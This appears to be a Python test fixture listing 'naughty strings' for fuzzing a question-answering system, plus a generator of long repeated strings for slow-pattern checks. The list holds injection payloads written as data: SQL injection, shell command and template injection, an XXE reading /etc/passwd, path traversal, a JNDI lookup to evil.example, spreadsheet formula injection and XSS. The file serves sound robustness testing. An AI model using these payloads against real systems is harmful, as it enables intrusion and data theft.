"""Texts that have broken software, each at most 500 characters: as questions they get a reply, whatever they are."""

from collections.abc import Iterator

LONGEST = 500

NAUGHTY: tuple[str, ...] = (
    # Words that programs take for values
    *("undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "True", "None", "hasOwnProperty"),
    *("__proto__", "constructor", "toString", "then", "\\", "\\\\", "NaN", "Infinity", "-Infinity", "INF", "1#INF"),
    # Numbers
    *("0", "1", "1.00", "$1.00", "1/2", "1E2", "1E+02", "-1", "1/0", "0/0", "-2147483648/-1", "0.00", "0..0", ".", ","),
    *("0.0.0", "0,00", "0,,0", "--1", "-", "-.", "0x0", "0xffffffff", "0xabad1dea", "123456789012345678901234567890"),
    *("1,000.00", "1 000,00", "1'000.00", "01000", "08", "2.2250738585072011e-308", "9" * LONGEST, "1e9999999", "٣٤٥"),
    # Punctuation and quotes
    *(",./;'[]\\-=", '<>?:"{}|_+', "!@#$%^&*()`~", "'", '"', "''", '""', "'\"'", "“”‘’", "«»", "…", "?" * LONGEST),
    # What databases, shells, templates and formats would run
    *("1;DROP TABLE users", "1'; DROP TABLE users-- 1", "' OR 1=1 -- 1", "' OR '1'='1", "%", "_", "1 UNION SELECT 1"),
    *("$HOME", "$ENV{'HOME'}", "%d", "%s%s%s%s%s", "{0}", "{", "}", "{}", "{question}", "%*.*s", "%@", "%n", "%x"),
    *("$(touch canary)", "`touch canary`", "| touch canary", "; touch canary", "@{[system 'id']}"),
    *("{% print 'x' * 64 * 1024**3 %}", '{{ "".__class__.__mro__[2] }}', "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}"),
    *(
        "System('ls -al /')",
        "Kernel.exit(1)",
        "eval('1')",
        "__import__('os').system('id')",
        "!!python/object:os.system",
    ),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example")', "@SUM(1+1)", "+1+1", "-1+1", "\t=1+1"),
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    *(
        "../../../../etc/passwd%00",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "CON",
        "PRN",
        "AUX",
        "NUL",
        "COM1",
    ),
    *("() { 0; }; touch canary;", "${jndi:ldap://evil.example/a}", "*)(uid=*))(|(uid=*", '{"$gt": ""}', "[object]"),
    # What a page or a chat would draw or follow
    *("<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<svg><script>alert(1)</script>", "&lt;b&gt;"),
    *('"><img src=x onerror=alert(1)>', "javascript:alert(1)", '<a href="java\nscript:alert(1)">x</a>', "</textarea>"),
    *("<!channel> <@U012AB3CD> <https://evil.example|bank>", "*_~`code`~_*", "[x](javascript:alert(1))", ":smile:"),
    *("\r\nSet-Cookie: canary=1", "\x1b[2J\x1b[1;31mred", "\x1b]0;title\x07", "a\nINFO forged", "\x08" * 50, "\x7f"),
    # Scripts, signs and directions
    *(
        "田中さんにあげて下さい",
        "パーティーへ行かないか",
        "和製漢語",
        "울란바토르",
        "𠜎𠜱𠝹𠱓",
        "Ⱥ",
        "Ⱦ",
        "ﬀ ﬃ ﬆ",
        "İıſßẞ",
        "ΣΟΣ",
    ),
    *("الكل في المجمو عة", "הָיְתָהtestالصفحات", "﷽", "ﷺ" * 100, "‫test‫", "\u202etest\u202e", "⁦test⁧", "\u061c"),
    *("Ṱ̺̺̕o͞ ̷i̲̬n̝̗v̟̜o̶̙k̖̜e̹ ̣t̖̯h̩e", "Z̮̞̠A̴̵L̠G̜O", "̡͓̞ͅI̗̘̦", "a" + "\u0300" * (LONGEST - 1), "\u0345" * LONGEST, "\u1ab0" * 50),
    *(
        "😍",
        "👩🏽",
        "👾 🙇 💁 🙅",
        "👨‍👩‍👧‍👦" * 40,
        "🇺🇸🇷🇺🇸",
        "0️⃣ 1️⃣",
        "\U0001f3f4\U000e0067\U000e0062\U000e007f",
        "🏽" * LONGEST,
    ),
    *("ТЕСТ аdmіn", "ｆｕｌｌ　ｗｉｄｔｈ", "𝕿𝖍𝖊 𝓺𝓾𝓲𝓬𝓴", "ⓒⓐⓜⓔⓡⓐ", "uoᴉʇsǝnb", "¹²³₁₂₃", "½⅓¼⅕", "ᚠᛇᚻ", "🀄" * 100),
    # Spaces and what cannot be seen
    *(
        "\u200b",
        "a\u200bb" * 160,
        "c\u00ada\u00adm\u00ade\u00adr\u00ada",
        "\ufeffcamera",
        "\u2028\u2029",
        "\x85",
        "\u180e",
    ),
    *(
        "\u00a0" * LONGEST,
        "\u3000camera\u3000",
        "\t\v\f",
        "\ufff9\ufffa\ufffb",
        "\ufffe\uffff",
        "\U000e0001",
        "\ue000\uf8ff",
    ),
    *("\u115f\u1160\u3164\uffa0" * 100, "\u034f" * LONGEST, "\u2060" * LONGEST, "\U0010ffff", "\ufdd0", "\u0f0b" * 90),
)

PIECES = (
    *("a", "ab ", "a ", "aa,", "waarom ", "why? ", "en ", "camera ", "camera's ", "camera en ", "nieuwsbrief? "),
    *("hoe lang ", "why is my ", "art. 6 ", "4.5 ", "1.", "9", "-", "--", "_", "'", "a'", "(", "[", "((a)"),
    *("\n", "@a.", "a@", "+31 6 ", "06-", "NL91", "ge", "tje", "de het een ", "niet ", "of ", "? ", "...", "!?"),
    *("é", "e\u0301", "ij", "IJ", "aaaaaaaaaa ", "verwerkingsverantwoordelijke", "gegevensbeschermingseffect "),
    *("x y z ", "İ", "ß"),
)


def stretched() -> Iterator[str]:
    """Return texts that grow what they are made of into 500 characters: what a slow pattern would stumble over."""
    for piece in PIECES:
        text = piece * LONGEST
        yield text[:LONGEST]
        yield text[: LONGEST - 7] + "camera?"
        yield "camera? " + text[: LONGEST - 8]
    yield " ".join(chr(0x61 + i % 26) + chr(0x61 + i // 26 % 26) for i in range(166))  # all words differ
    yield " ".join(f"{i:x}camera"[:8] for i in range(60))  # each nearly a word of the register
    yield "".join(chr(0x4E00 + i) for i in range(LONGEST))
    yield "".join(chr(0x1F300 + i % 700) for i in range(LONGEST))
